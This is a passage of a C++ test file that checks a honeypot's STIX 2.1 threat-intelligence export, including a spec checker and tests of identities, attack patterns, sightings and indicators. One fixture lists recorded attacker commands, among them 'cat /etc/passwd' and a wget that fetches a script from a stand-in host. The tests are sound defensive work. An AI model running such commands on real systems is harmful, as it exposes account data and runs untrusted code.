// The STIX 2.1 export (stix_bundle.h). No schema is available offline, so stix_problems() below
// checks what the OASIS STIX 2.1 specification documents for the objects a bundle uses: the
// bundle's shape, identifiers (<type>--<RFC 4122 uuid>, unique, prefix = type), the common
// properties of SDOs/SROs (spec_version, created <= modified, created_by_ref), that every *_ref(s)
// resolves inside the bundle, the required properties of each type, the relationships section 4
// allows, indicator patterns that name an address or hash present in the bundle, and custom
// properties only under x_. It runs over bundles of a bare attacker, a fully described IPv6 one
// and two attackers of one identity, and is itself shown to reject what the spec forbids.
// Pinned besides: the DECNET identity id and the deterministic cyber-observable ids (vectors
// computed with Python's uuid module), ids that survive a re-export, one attack-pattern and one
// `uses` per technique, one sighting per tag, one intrusion-set per identity spanning its
// attackers, and technique names from the shipped catalogue.
#include "ttp/stix_bundle.h"

#include <arpa/inet.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <functional>
#include <map>
#include <optional>
#include <regex>
#include <set>
#include <stdexcept>
#include <string>
#include <tuple>
#include <vector>

#include "core/time.h"
#include "store/ttp_repository.h"
#include "ttp/attack_catalog.h"

namespace decnet::ttp {
namespace {

using nlohmann::json;

// uuid5(b5d2c3a1-8f4e-4d1b-9a6c-0e7f5b3d2c1a, "decnet-honeypot"): the published DECNET identity.
const std::string kDecnetIdentity = "identity--ade09431-1861-567a-a60c-b19ee3d0d6a6";

// ---------------------------------------------------------------------------------------------
// The checker: STIX 2.1 (OASIS Standard, 2021) as far as these bundles use it.

const std::regex kIdPattern(
    "([a-z][a-z0-9-]*[a-z0-9])--"
    "([0-9a-f]{8}-[0-9a-f]{4}-([1-5])[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12})");
const std::regex kTimestampPattern(R"(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z)");
const std::regex kTechniqueId(R"(T\d{4}(\.\d{3})?)");
const std::regex kCustomProperty("x_[a-z0-9_]{1,248}");
// [<object-type>:<object-path> = '<string literal>'], ' and \ escaped by a backslash.
const std::regex kComparison(
    R"(\[([a-z0-9-]+):([a-z0-9_]+(?:\.(?:'[^']+'|[a-z0-9_]+))*) = '((?:[^'\\]|\\['\\])*)'\])");

bool is_sco(const std::string& type) {
  return type == "ipv4-addr" || type == "ipv6-addr" || type == "domain-name" || type == "file";
}

// Common properties (sections 3.2 and 6.1) and each type's own (sections 4, 5, 6).
const std::set<std::string> kSdoCommon = {"type",
                                          "spec_version",
                                          "id",
                                          "created_by_ref",
                                          "created",
                                          "modified",
                                          "revoked",
                                          "labels",
                                          "confidence",
                                          "lang",
                                          "external_references",
                                          "object_marking_refs",
                                          "granular_markings",
                                          "extensions"};
const std::set<std::string> kScoCommon = {
    "type",     "spec_version", "id", "object_marking_refs", "granular_markings",
    "defanged", "extensions"};
const std::map<std::string, std::set<std::string>> kTypeProperties = {
    {"identity",
     {"name", "description", "roles", "identity_class", "sectors", "contact_information"}},
    {"attack-pattern", {"name", "description", "aliases", "kill_chain_phases"}},
    {"indicator",
     {"name", "description", "indicator_types", "pattern", "pattern_type", "pattern_version",
      "valid_from", "valid_until", "kill_chain_phases"}},
    {"intrusion-set",
     {"name", "description", "aliases", "first_seen", "last_seen", "goals", "resource_level",
      "primary_motivation", "secondary_motivations"}},
    {"note", {"abstract", "content", "authors", "object_refs"}},
    {"observed-data",
     {"first_observed", "last_observed", "number_observed", "objects", "object_refs"}},
    {"relationship",
     {"relationship_type", "description", "source_ref", "target_ref", "start_time", "stop_time"}},
    {"sighting",
     {"description", "first_seen", "last_seen", "count", "sighting_of_ref", "observed_data_refs",
      "where_sighted_refs", "summary"}},
    {"ipv4-addr", {"value", "resolves_to_refs", "belongs_to_refs"}},
    {"ipv6-addr", {"value", "resolves_to_refs", "belongs_to_refs"}},
    {"domain-name", {"value", "resolves_to_refs"}},
    {"file",
     {"hashes", "size", "name", "name_enc", "magic_number_hex", "mime_type", "ctime", "mtime",
      "atime", "parent_directory_ref", "contains_refs", "content_ref"}},
};

// The relationships section 4 lists for the source types these bundles use (the generic
// derived-from, duplicate-of and related-to are allowed between any two objects).
const std::set<std::tuple<std::string, std::string, std::string>> kRelationships = {
    {"indicator", "indicates", "attack-pattern"},
    {"indicator", "indicates", "campaign"},
    {"indicator", "indicates", "infrastructure"},
    {"indicator", "indicates", "intrusion-set"},
    {"indicator", "indicates", "malware"},
    {"indicator", "indicates", "threat-actor"},
    {"indicator", "indicates", "tool"},
    {"indicator", "based-on", "observed-data"},
    {"intrusion-set", "uses", "attack-pattern"},
    {"intrusion-set", "uses", "infrastructure"},
    {"intrusion-set", "uses", "malware"},
    {"intrusion-set", "uses", "tool"},
    {"intrusion-set", "targets", "identity"},
    {"intrusion-set", "targets", "location"},
    {"intrusion-set", "targets", "vulnerability"},
    {"intrusion-set", "attributed-to", "threat-actor"},
};

std::string text(const json& object, const std::string& key) {
  const auto it = object.find(key);
  return it != object.end() && it->is_string() ? it->get<std::string>() : std::string();
}

// A STIX timestamp as a string that orders like the instant: the 19 fixed-width characters,
// then the fraction padded to nanoseconds. nullopt unless it is one.
std::optional<std::string> timestamp_key(const json& object, const std::string& key) {
  const auto it = object.find(key);
  if (it == object.end() || !it->is_string()) return std::nullopt;
  const auto s = it->get<std::string>();
  std::smatch m;
  if (!std::regex_match(s, m, kTimestampPattern)) return std::nullopt;
  const auto field = [&](std::size_t at) { return std::stoi(s.substr(at, 2)); };
  if (field(5) < 1 || field(5) > 12 || field(8) < 1 || field(8) > 31 || field(11) > 23 ||
      field(14) > 59 || field(17) > 60) {
    return std::nullopt;
  }
  auto fraction = m[1].matched ? m[1].str().substr(1) : std::string();
  fraction.resize(9, '0');
  return s.substr(0, 19) + fraction;
}

bool is_int_in(const json& object, const std::string& key, std::int64_t lo, std::int64_t hi) {
  const auto it = object.find(key);
  if (it == object.end() || !it->is_number_integer()) return false;
  const auto v = it->get<std::int64_t>();
  return v >= lo && v <= hi;
}

// Every *_ref / *_refs at any depth of `node`, with the property's name.
void each_ref(const json& node, const std::function<void(const std::string&, const json&)>& f) {
  if (node.is_array()) {
    for (const auto& v : node) each_ref(v, f);
    return;
  }
  if (!node.is_object()) return;
  for (const auto& [key, value] : node.items()) {
    if (key.ends_with("_ref") || key.ends_with("_refs")) f(key, value);
    each_ref(value, f);
  }
}

std::vector<std::string> stix_problems(const json& bundle) {
  std::vector<std::string> problems;
  const auto fail = [&](const std::string& where, const std::string& what) {
    problems.push_back(where + ": " + what);
  };
  if (!bundle.is_object()) return {"bundle: not a JSON object"};
  std::smatch m;
  const auto bundle_id = text(bundle, "id");
  if (text(bundle, "type") != "bundle") fail("bundle", "type is not \"bundle\"");
  if (!std::regex_match(bundle_id, m, kIdPattern) || m[1] != "bundle") {
    fail("bundle", "id is not bundle--<uuid>");
  }
  for (const auto& [key, value] : bundle.items()) {
    if (key != "type" && key != "id" && key != "objects") fail("bundle", "property " + key);
  }
  const auto objects = bundle.find("objects");
  if (objects == bundle.end() || !objects->is_array() || objects->empty()) {
    fail("bundle", "no objects array");
    return problems;
  }

  std::map<std::string, const json*> by_id;
  for (const auto& o : *objects) {
    if (!o.is_object()) {
      fail("bundle", "an object that is not a JSON object");
      continue;
    }
    const auto id = text(o, "id");
    if (!std::regex_match(id, m, kIdPattern)) {
      fail(id, "id is not <type>--<RFC 4122 uuid>");
    } else if (m[1] != text(o, "type")) {
      fail(id, "id prefix is not its type \"" + text(o, "type") + "\"");
    } else if (is_sco(text(o, "type")) && m[3] != "5") {
      fail(id, "a cyber-observable id that is not a UUIDv5");
    }
    if (!by_id.emplace(id, &o).second) fail(id, "id is not unique");
  }
  const auto type_of = [&](const json& ref) -> std::string {
    if (!ref.is_string()) return {};
    const auto it = by_id.find(ref.get<std::string>());
    return it == by_id.end() ? std::string() : text(*it->second, "type");
  };
  const auto one_of = [](const std::string& type, std::initializer_list<const char*> types) {
    return std::any_of(types.begin(), types.end(), [&](const char* t) { return type == t; });
  };

  for (const auto& o : *objects) {
    if (!o.is_object()) continue;
    const auto id = text(o, "id");
    const auto type = text(o, "type");
    const auto own = kTypeProperties.find(type);
    if (own == kTypeProperties.end()) {
      fail(id, "type \"" + type + "\" is not one the checker knows");
      continue;
    }
    const auto& common = is_sco(type) ? kScoCommon : kSdoCommon;
    for (const auto& [key, value] : o.items()) {
      if (common.contains(key) || own->second.contains(key)) continue;
      if (!std::regex_match(key, kCustomProperty)) fail(id, "custom property without x_: " + key);
    }

    each_ref(o, [&](const std::string& key, const json& value) {
      if (key.ends_with("_ref")) {
        if (type_of(value).empty()) fail(id, key + " does not resolve in the bundle");
        return;
      }
      if (!value.is_array() || value.empty()) fail(id, key + " is not a non-empty list");
      for (const auto& ref : value) {
        if (type_of(ref).empty()) fail(id, key + " holds an id not in the bundle");
      }
    });

    if (is_sco(type)) {
      if (o.contains("spec_version") && text(o, "spec_version") != "2.1") {
        fail(id, "spec_version is not 2.1");
      }
      const auto value = text(o, "value");
      unsigned char address[16];
      if (type == "ipv4-addr" && inet_pton(AF_INET, value.c_str(), address) != 1) {
        fail(id, "value is not an IPv4 address");
      }
      if (type == "ipv6-addr" && inet_pton(AF_INET6, value.c_str(), address) != 1) {
        fail(id, "value is not an IPv6 address");
      }
      if (type == "domain-name" && value.empty()) fail(id, "no value");
      continue;
    }

    // SDOs and SROs.
    if (text(o, "spec_version") != "2.1") fail(id, "spec_version is not 2.1");
    const auto created = timestamp_key(o, "created");
    const auto modified = timestamp_key(o, "modified");
    if (!created) fail(id, "created is not a STIX timestamp");
    if (!modified) fail(id, "modified is not a STIX timestamp");
    if (created && modified && *modified < *created) fail(id, "modified is before created");
    if (id != kDecnetIdentity && type_of(o.value("created_by_ref", json())) != "identity") {
      fail(id, "created_by_ref is not an identity in the bundle");
    }
    if (o.contains("confidence") && !is_int_in(o, "confidence", 0, 100)) {
      fail(id, "confidence is not an integer 0..100");
    }
    const auto ordered = [&](const std::string& first, const std::string& last) {
      const auto a = timestamp_key(o, first);
      const auto b = timestamp_key(o, last);
      if (!a || !b) {
        fail(id, first + " / " + last + " is not a pair of STIX timestamps");
      } else if (*b < *a) {
        fail(id, last + " is before " + first);
      }
    };

    if (type == "identity") {
      if (text(o, "name").empty()) fail(id, "identity without a name");
    } else if (type == "relationship") {
      const auto kind = text(o, "relationship_type");
      const auto source = type_of(o.value("source_ref", json()));
      const auto target = type_of(o.value("target_ref", json()));
      if (kind.empty() || source.empty() || target.empty()) {
        fail(id, "relationship without relationship_type, source_ref and target_ref");
      } else if (kind != "related-to" && kind != "derived-from" && kind != "duplicate-of" &&
                 !kRelationships.contains({source, kind, target})) {
        fail(id, source + " " + kind + " " + target + " is not a STIX relationship");
      }
    } else if (type == "indicator") {
      if (text(o, "pattern_type") != "stix") fail(id, "pattern_type is not stix");
      if (!timestamp_key(o, "valid_from")) fail(id, "valid_from is not a STIX timestamp");
      const auto pattern = text(o, "pattern");
      std::smatch c;
      if (!std::regex_match(pattern, c, kComparison)) {
        fail(id, "pattern is not a bracketed comparison: " + pattern);
        continue;
      }
      const auto object_type = c[1].str();
      const auto path = c[2].str();
      const auto escaped = c[3].str();
      std::string literal;
      for (std::size_t i = 0; i < escaped.size(); ++i) {
        if (escaped[i] == '\\') ++i;
        literal.push_back(escaped[i]);
      }
      if (is_sco(object_type) && object_type != "file" && path == "value") {
        const bool observed = std::any_of(objects->begin(), objects->end(), [&](const json& s) {
          return text(s, "type") == object_type && text(s, "value") == literal;
        });
        if (!observed) fail(id, "pattern names " + literal + ", no " + object_type + " in bundle");
      } else if (object_type == "file" && path == "hashes.'SHA-256'") {
        if (!std::regex_match(literal, std::regex("[0-9a-f]{64}"))) {
          fail(id, "pattern's SHA-256 is not 64 hex digits");
        }
      } else {
        fail(id, "pattern on " + object_type + ":" + path + " the checker does not know");
      }
    } else if (type == "sighting") {
      if (one_of(
              type_of(o.value("sighting_of_ref", json())),
              {"", "relationship", "sighting", "ipv4-addr", "ipv6-addr", "domain-name", "file"})) {
        fail(id, "sighting_of_ref is not an SDO in the bundle");
      }
      if (!is_int_in(o, "count", 1, 999'999'999)) fail(id, "count is not 1..999999999");
      if (!is_int_in(o, "confidence", 0, 100)) fail(id, "confidence is not 0..100");
      ordered("first_seen", "last_seen");
      for (const auto& ref : o.value("where_sighted_refs", json::array())) {
        if (!one_of(type_of(ref), {"identity", "location"})) {
          fail(id, "where_sighted_refs holds neither an identity nor a location");
        }
      }
      for (const auto& ref : o.value("observed_data_refs", json::array())) {
        if (type_of(ref) != "observed-data") fail(id, "observed_data_refs holds another type");
      }
    } else if (type == "attack-pattern") {
      if (text(o, "name").empty()) fail(id, "attack-pattern without a name");
      bool mitre = false;
      for (const auto& r : o.value("external_references", json::array())) {
        if (text(r, "source_name") != "mitre-attack") continue;
        const auto technique = text(r, "external_id");
        auto page = technique;
        std::replace(page.begin(), page.end(), '.', '/');
        mitre = std::regex_match(technique, kTechniqueId) &&
                text(r, "url") == "https://attack.mitre.org/techniques/" + page + "/";
      }
      if (!mitre) fail(id, "no mitre-attack external reference with a technique id and page");
      for (const auto& phase : o.value("kill_chain_phases", json::array())) {
        if (text(phase, "kill_chain_name").empty() || text(phase, "phase_name").empty()) {
          fail(id, "kill chain phase without kill_chain_name and phase_name");
        }
      }
    } else if (type == "intrusion-set") {
      if (text(o, "name").empty()) fail(id, "intrusion-set without a name");
      ordered("first_seen", "last_seen");
    } else if (type == "observed-data") {
      ordered("first_observed", "last_observed");
      if (!is_int_in(o, "number_observed", 1, 999'999'999)) {
        fail(id, "number_observed is not 1..999999999");
      }
      const auto refs = o.value("object_refs", json::array());
      if (!refs.is_array() || refs.empty()) fail(id, "object_refs is empty");
      for (const auto& ref : refs) {
        if (!is_sco(type_of(ref)) && type_of(ref) != "relationship") {
          fail(id, "object_refs holds something other than an SCO or SRO");
        }
      }
    } else if (type == "note") {
      if (text(o, "content").empty()) fail(id, "note without content");
      if (!o.contains("object_refs")) fail(id, "note without object_refs");
    }
  }
  return problems;
}

std::string joined(const std::vector<std::string>& problems) {
  std::string out;
  for (const auto& p : problems) out += "\n  " + p;
  return out;
}

// ---------------------------------------------------------------------------------------------
// Inputs and lookups.

std::int64_t micros(std::string_view rfc3339) {
  return core::parse_rfc3339(rfc3339).value().micros_utc;
}

const std::int64_t kNow = micros("2026-05-02T06:00:00Z");
const std::string kHashEmpty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
const std::string kHashAbc = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

store::TtpTag tag(std::string source_id, std::string technique, std::optional<std::string> sub,
                  double confidence, std::string_view at) {
  store::TtpTag t;
  t.source_kind = "command";
  t.source_id = std::move(source_id);
  t.technique_id = std::move(technique);
  t.sub_technique_id = std::move(sub);
  t.confidence = confidence;
  t.rule_id = "R0005";
  t.created_at = micros(at);
  t.uuid = store::compute_tag_uuid(t.source_kind, t.source_id, t.rule_id, t.rule_version,
                                   t.technique_id, t.sub_technique_id);
  return t;
}

AttackerExport bare() {
  AttackerExport a;
  a.uuid = "0b7c6a1e-2f3d-4c5b-8a69-7e8f9a0b1c2d";
  a.ip = "198.51.100.1";
  a.first_seen = micros("2026-04-30T10:00:00.250Z");
  a.last_seen = micros("2026-04-30T12:00:00Z");
  a.event_count = 12;
  return a;
}

// IPv6, three tags over T1110 and the sub-technique T1059.004, two files, two mail domains,
// three commands and an intel verdict.
AttackerExport full() {
  AttackerExport a;
  a.uuid = "1c8d7b2f-3a4e-4d6c-9b7a-8f9a0b1c2d3e";
  a.ip = "2001:db8::7";
  a.first_seen = micros("2026-04-29T08:00:00Z");
  a.last_seen = micros("2026-05-01T17:30:00Z");
  a.event_count = 340;
  a.country_code = "NL";
  a.asn = 64500;
  a.as_name = "Example Transit";
  a.tags = {tag("c-3", "T1059", "T1059.004", 0.9, "2026-05-01T17:00:00.120Z"),
            tag("c-2", "T1059", "T1059.004", 0.8, "2026-04-30T09:00:00Z"),
            tag("s-1", "T1110", std::nullopt, 0.6, "2026-04-29T08:05:00Z")};
  a.file_sha256s = {kHashEmpty, kHashAbc};
  a.smtp_domains = {"corp1.example", "mail.example.org"};
  a.commands = {"uname -a", "cat /etc/passwd", "wget http://203.0.113.9/x.sh"};
  a.intel_verdict = "malicious";
  return a;
}

// Two attackers of one identity, the one listed first seen later (both tagged T1110.001).
std::vector<AttackerExport> pair() {
  AttackerExport later;
  later.uuid = "2d9e8c3a-4b5f-4e7d-8c8b-9a0b1c2d3e4f";
  later.ip = "203.0.113.20";
  later.identity_uuid = "7f3a9b1c-5d6e-4f80-9a1b-2c3d4e5f6a7b";
  later.first_seen = micros("2026-04-25T00:00:00Z");
  later.last_seen = micros("2026-04-28T12:00:00Z");
  later.event_count = 5;
  later.tags = {tag("s-20", "T1110", "T1110.001", 0.7, "2026-04-26T00:00:00Z")};
  auto earlier = later;
  earlier.uuid = "3e0f9d4b-5c6a-4f8e-9d9c-0b1c2d3e4f5a";
  earlier.ip = "203.0.113.21";
  earlier.first_seen = micros("2026-04-20T00:00:00Z");
  earlier.last_seen = micros("2026-04-22T00:00:00Z");
  earlier.tags = {tag("s-21", "T1110", "T1110.001", 0.7, "2026-04-21T00:00:00Z")};
  return {later, earlier};
}

json export_of(const std::vector<AttackerExport>& attackers, std::int64_t now = kNow) {
  return stix_bundle(attackers, AttackCatalog::shipped(), now);
}

std::vector<json> of_type(const json& bundle, const std::string& type) {
  std::vector<json> out;
  for (const auto& o : bundle["objects"]) {
    if (o["type"] == type) out.push_back(o);
  }
  return out;
}

std::optional<json> by_id(const json& bundle, const std::string& id) {
  for (const auto& o : bundle["objects"]) {
    if (o["id"] == id) return o;
  }
  return std::nullopt;
}

// The attack-pattern whose mitre-attack external id is `technique`.
std::vector<json> patterns_for(const json& bundle, const std::string& technique) {
  std::vector<json> out;
  for (const auto& p : of_type(bundle, "attack-pattern")) {
    for (const auto& r : p["external_references"]) {
      if (r.value("source_name", "") == "mitre-attack" && r.value("external_id", "") == technique) {
        out.push_back(p);
      }
    }
  }
  return out;
}

std::vector<json> relationships(const json& bundle, const std::string& kind,
                                const std::string& source, const std::string& target) {
  std::vector<json> out;
  for (const auto& r : of_type(bundle, "relationship")) {
    if (r["relationship_type"] == kind && r["source_ref"] == source && r["target_ref"] == target) {
      out.push_back(r);
    }
  }
  return out;
}

std::int64_t instant(const json& value) {
  return core::parse_rfc3339(value.get<std::string>()).value().micros_utc;
}

std::set<std::string> ids_of(const json& bundle) {
  std::set<std::string> out;
  for (const auto& o : bundle["objects"]) out.insert(o["id"].get<std::string>());
  return out;
}

// ---------------------------------------------------------------------------------------------

// The checker is only worth running if it fails on what the spec forbids: each mutation of a
// valid bundle must draw the complaint that names it.
TEST(StixChecker, RejectsWhatTheSpecificationForbids) {
  const auto valid = export_of({full()});
  ASSERT_TRUE(stix_problems(valid).empty()) << joined(stix_problems(valid));
  const auto first = [](json& b, const std::string& type) -> json& {
    for (auto& o : b["objects"]) {
      if (o["type"] == type) return o;
    }
    throw std::runtime_error("no " + type);
  };
  const std::vector<std::pair<std::string, std::function<void(json&)>>> mutations = {
      {"type is not \"bundle\"", [](json& b) { b["type"] = "collection"; }},
      {"id is not bundle--", [](json& b) { b["id"] = "bundle--not-a-uuid"; }},
      {"id prefix is not its type",
       [&](json& b) {
         auto& o = first(b, "note");
         o["id"] = "report--" + o["id"].get<std::string>().substr(6);
       }},
      {"id is not <type>--", [&](json& b) { first(b, "note")["id"] = "note--1234"; }},
      {"id is not unique", [&](json& b) { b["objects"].push_back(first(b, "note")); }},
      {"spec_version is not 2.1", [&](json& b) { first(b, "indicator").erase("spec_version"); }},
      {"created is not a STIX timestamp",
       [&](json& b) { first(b, "indicator")["created"] = "2026-04-29 08:00:00"; }},
      {"modified is before created",
       [&](json& b) { first(b, "intrusion-set")["modified"] = "2020-01-01T00:00:00Z"; }},
      {"created_by_ref is not an identity",
       [&](json& b) { first(b, "observed-data").erase("created_by_ref"); }},
      {"sighting_of_ref does not resolve",
       [&](json& b) {
         first(b, "sighting")["sighting_of_ref"] =
             "attack-pattern--00000000-0000-4000-8000-000000000000";
       }},
      {"custom property without x_",
       [&](json& b) { first(b, "intrusion-set")["decnet_asn"] = 64500; }},
      {"no ipv6-addr in bundle",
       [&](json& b) { first(b, "indicator")["pattern"] = "[ipv6-addr:value = '2001:db8::99']"; }},
      {"not a bracketed comparison",
       [&](json& b) { first(b, "indicator")["pattern"] = "ipv6-addr:value = '2001:db8::7'"; }},
      {"pattern_type is not stix",
       [&](json& b) { first(b, "indicator")["pattern_type"] = "snort"; }},
      {"count is not", [&](json& b) { first(b, "sighting")["count"] = 0; }},
      {"confidence is not", [&](json& b) { first(b, "sighting")["confidence"] = 101; }},
      {"last_seen is before first_seen",
       [&](json& b) { first(b, "sighting")["last_seen"] = "2020-01-01T00:00:00Z"; }},
      {"no mitre-attack external reference",
       [&](json& b) {
         first(b, "attack-pattern")["external_references"][0]["external_id"] = "T59";
       }},
      {"no mitre-attack external reference",
       [&](json& b) {
         first(b, "attack-pattern")["external_references"][0]["url"] = "https://example.org/";
       }},
      {"last_seen is before first_seen",
       [&](json& b) { first(b, "intrusion-set")["first_seen"] = "2027-01-01T00:00:00Z"; }},
      {"object_refs is empty",
       [&](json& b) { first(b, "observed-data")["object_refs"] = json::array(); }},
      {"number_observed is not",
       [&](json& b) { first(b, "observed-data")["number_observed"] = 0; }},
      {"last_observed is before first_observed",
       [&](json& b) { first(b, "observed-data")["first_observed"] = "2027-01-01T00:00:00Z"; }},
      {"is not a STIX relationship",
       [&](json& b) {
         auto& r = first(b, "relationship");
         std::swap(r["source_ref"], r["target_ref"]);
       }},
      {"value is not an IPv6 address", [&](json& b) { first(b, "ipv6-addr")["value"] = "nope"; }},
      {"not a UUIDv5",
       [&](json& b) {
         auto& o = first(b, "domain-name");
         o["id"] = "domain-name--0e60b95c-3e54-4097-9a0a-d7d637514312";
       }},
  };
  for (const auto& [complaint, mutate] : mutations) {
    auto b = valid;
    mutate(b);
    const auto problems = stix_problems(b);
    EXPECT_TRUE(std::any_of(problems.begin(), problems.end(),
                            [&](const std::string& p) { return p.find(complaint) != p.npos; }))
        << "expected \"" << complaint << "\", got:" << joined(problems);
  }
}

TEST(StixBundle, EveryExportIsAWellFormedStix21Bundle) {
  auto unknown = bare();
  unknown.tags = {tag("c-9", "T1999", std::nullopt, 0.5, "2026-04-30T11:00:00Z")};
  const std::vector<std::pair<std::string, std::vector<AttackerExport>>> inputs = {
      {"no attackers", {}},
      {"an attacker without tags", {bare()}},
      {"a fully described IPv6 attacker", {full()}},
      {"two attackers of one identity", pair()},
      {"a technique the catalogue lacks", {unknown}},
      {"all of them", {bare(), full(), pair()[0], pair()[1]}},
  };
  for (const auto& [what, attackers] : inputs) {
    const auto problems = stix_problems(export_of(attackers));
    EXPECT_TRUE(problems.empty()) << what << ":" << joined(problems);
  }
}

TEST(StixBundle, TheDecnetIdentityHasItsPublishedIdAndAuthorsEveryObject) {
  EXPECT_EQ(decnet_identity_id(), kDecnetIdentity);
  const auto bundle = export_of({full()});
  const auto identity = by_id(bundle, kDecnetIdentity);
  ASSERT_TRUE(identity);
  EXPECT_EQ((*identity)["name"], "DECNET");
  EXPECT_EQ((*identity)["identity_class"], "organization");
  for (const auto& o : bundle["objects"]) {
    if (is_sco(o["type"].get<std::string>()) || o["id"] == kDecnetIdentity) continue;
    EXPECT_EQ(o.value("created_by_ref", ""), kDecnetIdentity) << o["id"];
  }
}

// STIX 2.1 section 2.9: uuid5 of the STIX namespace over the id-contributing properties
// (`value` for addresses and domains) as JSON; computed with Python's uuid module.
TEST(StixBundle, ObservablesHaveTheStixDeterministicIds) {
  const auto v4 = by_id(export_of({bare()}), "ipv4-addr--2b3e2c17-3144-5591-9c88-a605220f8c0c");
  ASSERT_TRUE(v4);
  EXPECT_EQ((*v4)["value"], "198.51.100.1");

  const auto bundle = export_of({full()});
  const auto v6 = by_id(bundle, "ipv6-addr--9ed76cd5-ab3b-55a5-b6ec-b55c3efb0be2");
  ASSERT_TRUE(v6);
  EXPECT_EQ((*v6)["value"], "2001:db8::7");
  const auto domain = by_id(bundle, "domain-name--e7941172-723f-5a97-8daf-92d339467772");
  ASSERT_TRUE(domain);
  EXPECT_EQ((*domain)["value"], "corp1.example");
}

TEST(StixBundle, TheSameFactsExportedTwiceKeepTheirIds) {
  const std::vector<AttackerExport> attackers = {bare(), full(), pair()[0], pair()[1]};
  const auto once = export_of(attackers, kNow);
  const auto again = export_of(attackers, kNow + 3'600'000'000);
  EXPECT_GT(ids_of(once).size(), 20u);
  EXPECT_EQ(ids_of(once), ids_of(again));
}

TEST(StixBundle, EachTechniqueIsOneAttackPatternAndOneUsesAndEachTagOneSighting) {
  const auto a = full();
  const auto bundle = export_of({a});
  const auto sets = of_type(bundle, "intrusion-set");
  ASSERT_EQ(sets.size(), 1u);
  const auto set = sets[0]["id"].get<std::string>();

  std::map<std::string, int> tags_per_technique;
  for (const auto& t : a.tags) ++tags_per_technique[t.sub_technique_id.value_or(t.technique_id)];
  ASSERT_EQ(tags_per_technique.size(), 2u);  // T1059.004 twice, T1110 once
  EXPECT_EQ(of_type(bundle, "attack-pattern").size(), tags_per_technique.size());
  EXPECT_EQ(patterns_for(bundle, "T1059").size(), 0u);  // the sub-technique, not its parent
  for (const auto& [technique, count] : tags_per_technique) {
    SCOPED_TRACE(technique);
    const auto patterns = patterns_for(bundle, technique);
    ASSERT_EQ(patterns.size(), 1u);
    const auto pattern = patterns[0]["id"].get<std::string>();
    EXPECT_EQ(relationships(bundle, "uses", set, pattern).size(), 1u);
    int sightings = 0;
    for (const auto& s : of_type(bundle, "sighting")) sightings += s["sighting_of_ref"] == pattern;
    EXPECT_EQ(sightings, count);
  }
  std::size_t uses = 0;
  for (const auto& r : of_type(bundle, "relationship")) uses += r["relationship_type"] == "uses";
  EXPECT_EQ(uses, tags_per_technique.size());

  // A sighting per tag: when it was tagged, how confident, seen by DECNET in the attacker's
  // observation.
  const auto observed = of_type(bundle, "observed-data");
  ASSERT_EQ(observed.size(), 1u);
  ASSERT_EQ(of_type(bundle, "sighting").size(), a.tags.size());
  for (const auto& t : a.tags) {
    SCOPED_TRACE(t.source_id);
    const auto pattern = patterns_for(bundle, t.sub_technique_id.value_or(t.technique_id));
    ASSERT_EQ(pattern.size(), 1u);
    int matches = 0;
    for (const auto& s : of_type(bundle, "sighting")) {
      if (s["sighting_of_ref"] != pattern[0]["id"] || instant(s["first_seen"]) != t.created_at) {
        continue;
      }
      ++matches;
      EXPECT_EQ(instant(s["last_seen"]), t.created_at);
      EXPECT_EQ(s["count"], 1);
      EXPECT_EQ(s["confidence"], std::lround(t.confidence * 100));
      EXPECT_EQ(s["where_sighted_refs"], json::array({kDecnetIdentity}));
      EXPECT_EQ(s["observed_data_refs"], json::array({observed[0]["id"]}));
    }
    EXPECT_EQ(matches, 1);
  }
}

TEST(StixBundle, AttackPatternsAreNamedFromTheCatalogueOrByTheirId) {
  const auto& catalog = AttackCatalog::shipped();
  const auto* unix_shell = catalog.technique("T1059.004");
  ASSERT_NE(unix_shell, nullptr);
  ASSERT_EQ(catalog.technique("T1999"), nullptr);

  auto a = full();
  a.tags.push_back(tag("c-9", "T1999", std::nullopt, 0.5, "2026-04-30T11:00:00Z"));
  const auto bundle = export_of({a});

  const auto known = patterns_for(bundle, "T1059.004");
  ASSERT_EQ(known.size(), 1u);
  EXPECT_EQ(known[0]["name"], unix_shell->name);
  EXPECT_NE(unix_shell->name, "T1059.004");
  EXPECT_EQ(known[0]["external_references"][0]["url"], unix_shell->url);
  std::vector<std::string> phases;
  for (const auto& p : known[0]["kill_chain_phases"]) {
    EXPECT_EQ(p["kill_chain_name"], "mitre-attack");
    phases.push_back(p["phase_name"].get<std::string>());
  }
  EXPECT_EQ(phases, unix_shell->tactics);

  const auto unknown = patterns_for(bundle, "T1999");
  ASSERT_EQ(unknown.size(), 1u);
  EXPECT_EQ(unknown[0]["name"], "T1999");
  EXPECT_EQ(unknown[0]["external_references"][0]["url"],
            "https://attack.mitre.org/techniques/T1999/");
  EXPECT_TRUE(stix_problems(bundle).empty()) << joined(stix_problems(bundle));
}

TEST(StixBundle, IndicatorsPointAtTheAddressAndEveryDroppedFile) {
  const auto a = full();
  const auto bundle = export_of({a});
  const auto set = of_type(bundle, "intrusion-set").at(0)["id"].get<std::string>();
  std::vector<std::string> expected = {"[ipv6-addr:value = '" + a.ip + "']"};
  for (const auto& sha : a.file_sha256s)
    expected.push_back("[file:hashes.'SHA-256' = '" + sha + "']");
  std::vector<std::string> patterns;
  for (const auto& i : of_type(bundle, "indicator")) {
    patterns.push_back(i["pattern"].get<std::string>());
    EXPECT_EQ(relationships(bundle, "indicates", i["id"].get<std::string>(), set).size(), 1u)
        << i["pattern"];
    EXPECT_EQ(instant(i["valid_from"]), a.first_seen);
  }
  std::sort(expected.begin(), expected.end());
  std::sort(patterns.begin(), patterns.end());
  EXPECT_EQ(patterns, expected);

  const auto v4 = export_of({bare()});
  const auto indicators = of_type(v4, "indicator");
  ASSERT_EQ(indicators.size(), 1u);
  EXPECT_EQ(indicators[0]["pattern"], "[ipv4-addr:value = '198.51.100.1']");
}

TEST(StixBundle, TheObservationHoldsTheAddressAndTheMailDomainsOverTheSeenWindow) {
  const auto a = full();
  const auto bundle = export_of({a});
  const auto observed = of_type(bundle, "observed-data");
  ASSERT_EQ(observed.size(), 1u);
  const auto& od = observed[0];
  EXPECT_EQ(od["number_observed"], a.event_count);
  EXPECT_EQ(instant(od["first_observed"]), a.first_seen);
  EXPECT_EQ(instant(od["last_observed"]), a.last_seen);
  std::multiset<std::string> values;
